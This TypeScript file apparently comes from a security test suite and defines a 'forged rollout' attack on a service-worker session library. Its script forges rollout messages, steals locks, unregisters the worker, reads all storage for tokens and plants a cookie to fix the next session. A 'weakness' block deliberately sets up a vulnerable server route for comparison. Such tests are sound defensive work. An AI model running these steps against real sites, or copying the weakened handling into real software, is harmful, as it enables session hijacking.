import { fileURLToPath } from 'node:url';
import type { Attack } from '../attack.js';
import type { Library } from '../outside/library-entry.js';
import { SIGNED_TEXT } from '../outside/loot.js';
import type { Stage } from '../outside/stage.js';
import { loadLibrary } from '../outside/victim-page.js';
import { weakWorker } from '../weak/weak-workers.js';
import { fetchSeal, PLANTED } from './seal-cookie.js';
import { readEveryStorage } from './storage.js';
import { installVaultKit } from './vault-records.js';
import { copySession, note, putBack } from './vault-rollback.js';

declare const library: Library;

const WORKER = fileURLToPath(new URL('../../workers/adoption.ts', import.meta.url));
const REMOVED = '/session/removed';

/** Uses `rollOut` as the app would, with a plan of its own, and takes whatever any part of it is given. */
async function rollItBack(): Promise<void> {
  const take =
    (label: string) =>
    (...given: unknown[]) =>
      attacker.take(label, given);
  const rollout = await library.rollOut({
    rollout: { mode: 'off' },
    worker: '/service-worker.js',
    register: () => Promise.reject(new Error('the keeper is not wanted')),
    former: { start: take('former.start') },
    onWay: take('onWay'),
    onProblem: take('onProblem'),
    onNotice: take('onNotice'),
  });
  attacker.take('rollout', rollout);
  const response = await rollout.send((way) => {
    attacker.take('way', way);
    return fetch('/data.json');
  });
  attacker.take('sent', [[...response.headers], await response.text()]);
}

/** Tells all tabs that the keeper goes, has gone and is to go, holds the locks of it, and then takes it away by itself. */
async function forgeIt(): Promise<void> {
  localStorage.setItem('session-keeper:rollout', '{"place":100,"plan":{"mode":"off"},"isLeft":true}');
  for (const name of ['session-keeper:rollout', 'session-keeper:rollout-change'])
    void navigator.locks.request(name, { steal: true }, () => attacker.pause(500)).catch(() => undefined);
  const channel = new BroadcastChannel('session-keeper:rollout');
  channel.onmessage = ({ data }) => attacker.take('rollout channel', data);
  for (const message of ['leaving', 'changed', { type: 'leaving' }, { mode: 'off' }]) {
    channel.postMessage(message);
    await attacker.post({ rollout: message });
    await attacker.post({ event: { type: message } });
  }
  for (const name of ['remove', 'leave', 'rollout', 'handOver', 'unregister'])
    await attacker.post({ call: { id: `attacker ${name}`, type: 'APPLY', path: [name], argumentList: [] } });
  await attacker.pause(200);
  channel.close();
  for (const registration of await navigator.serviceWorker.getRegistrations())
    await registration.unregister();
  indexedDB.deleteDatabase('session-keeper');
  await attacker.pause(100);
}

/** Wants the seal's cookie gone with the keeper, and sets one of its own. */
async function plantTheNextSeal({
  name,
  id,
  removed,
}: {
  name: string;
  id: string;
  removed: string;
}): Promise<void> {
  for (const init of [{ method: 'POST' }, { method: 'DELETE' }, {}])
    await fetch(removed, init).catch(() => undefined);
  await fetch('/service-worker.js?removed', { method: 'POST' }).catch(() => undefined);
  const secure = location.protocol === 'https:' ? '; secure' : '';
  Reflect.set(document, 'cookie', `${name}=${id}; path=/; max-age=600${secure}`);
}

async function removeTheKeeper(stage: Stage): Promise<void> {
  const name = stage.origin.startsWith('https:') ? '__Host-Http-seal' : 'session-keeper-seal';
  const copy = await copySession(stage);
  await stage.run(loadLibrary, undefined);
  await stage.run(rollItBack, undefined);
  await stage.run(readEveryStorage, SIGNED_TEXT);
  await stage.run(plantTheNextSeal, { name, id: PLANTED, removed: REMOVED });
  await stage.visit();
  stage.loot.add('the seal of a planted cookie', [await fetchSeal(stage.origin, `${name}=${PLANTED}`)]);
  await putBack(stage, copy);
  await note(stage, copy, 'after its removal');
  await stage.signIn('ada');
  await stage.run(forgeIt, undefined);
  await stage.run(readEveryStorage, SIGNED_TEXT);
  await stage.goto(`${stage.origin}/desk.html`);
  await stage.quiet();
}

export const forgedRollout: Attack = {
  name: 'forged rollout',
  tries:
    'uses `rollOut` with a plan of its own, forges the messages, locks and records of a removal, removes the keeper itself: to be handed tokens, to put the session back, to set the seal of the next vault',
  threat: '5.1.2',
  defence:
    'a removal hands nothing over, and is the sign-out that any page can ask for: the session’s epoch is over; the seal’s cookie stays',
  before: installVaultKit,
  signedIn: 'nobody',
  deployment: { system: { workerSource: WORKER } },
  weakness: {
    without:
      'that: the worker hands its tokens back, and the server takes its cookie away when a page says so',
    deployment: { system: weakWorker('handing-over') },
    weaken: (stage) =>
      stage.onAppRequest((req, res) => {
        if (req.url !== REMOVED) return false;
        res.setHeader('set-cookie', 'session-keeper-seal=; Path=/; Max-Age=0; HttpOnly; SameSite=Lax');
        res.writeHead(204).end();
        return true;
      }),
  },
  run: removeTheKeeper,
};
